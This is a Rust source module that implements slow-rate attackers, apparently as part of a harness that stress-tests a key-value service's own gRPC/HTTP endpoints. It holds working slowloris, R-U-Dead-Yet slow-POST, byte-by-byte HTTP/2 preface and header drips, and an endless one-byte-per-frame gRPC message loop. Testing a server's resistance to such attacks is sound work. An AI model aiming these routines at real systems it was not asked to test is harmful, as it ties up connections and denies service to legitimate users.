//! Attackers that say one byte a second.

use super::arms::Arms;
use super::http2::{DATA, END_HEADERS, HEADERS, Http2, PREFACE, frame, range_call, settings};
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

/// Between two bytes.
const BETWEEN: Duration = Duration::from_secs(1);

/// Says `bytes` one by one, until the other side has had enough.
async fn drip(line: &mut (impl AsyncWrite + Unpin), bytes: &[u8]) -> io::Result<()> {
    for byte in bytes {
        line.write_all(&[*byte]).await?;
        line.flush().await?;
        sleep(BETWEEN).await;
    }
    Ok(())
}

/// Says `at_once`, then `slowly`.
async fn say(arms: &Arms, at_once: &[u8], slowly: &[u8]) -> io::Result<()> {
    arms.pace(1).await;
    let mut line = arms.sealed().await?;
    line.write_all(at_once).await?;
    line.flush().await?;
    drip(&mut line, slowly).await?;
    // What is answered is of no interest, only that somebody still holds the connection.
    let _ = timeout(BETWEEN, line.read(&mut [0; 512])).await;
    Ok(())
}

/// HTTP/2's preface.
pub(super) async fn preface(arms: &Arms) -> io::Result<()> {
    say(arms, &PREFACE[..1], &PREFACE[1..]).await
}

/// The head of an HTTP/2 request.
pub(super) async fn head(arms: &Arms) -> io::Result<()> {
    let head = range_call(&arms.authority());
    let frame = frame(HEADERS, END_HEADERS, 1, &head);
    let at_once = [PREFACE, &settings(&[]), &frame[..9]].concat();
    say(arms, &at_once, &frame[9..]).await
}

/// The message of a gRPC call, a frame for each byte.
pub(super) async fn message(arms: &Arms) -> io::Result<()> {
    arms.pace(1).await;
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let head = range_call(&arms.authority());
    line.send(&frame(HEADERS, END_HEADERS, 1, &head)).await?;
    line.send(&frame(DATA, 0, 1, &[0, 0, 0, 3, 0])).await?;
    loop {
        line.send(&frame(DATA, 0, 1, b"x")).await?;
        sleep(BETWEEN).await;
    }
}

/// The head of an HTTP/1.1 request ("slowloris").
pub(super) async fn head_of_http1(arms: &Arms) -> io::Result<()> {
    let head = format!("GET /health HTTP/1.1\r\nHost: {}\r\nX: ", arms.authority());
    say(arms, head.as_bytes(), &[b'x'; 1000]).await
}

/// The body of an HTTP/1.1 request ("R U Dead Yet").
pub(super) async fn body_of_http1(arms: &Arms) -> io::Result<()> {
    let head = format!(
        "POST /v3/kv/range HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000\r\n\r\n",
        arms.authority()
    );
    say(arms, head.as_bytes(), &[b' '; 1000]).await
}
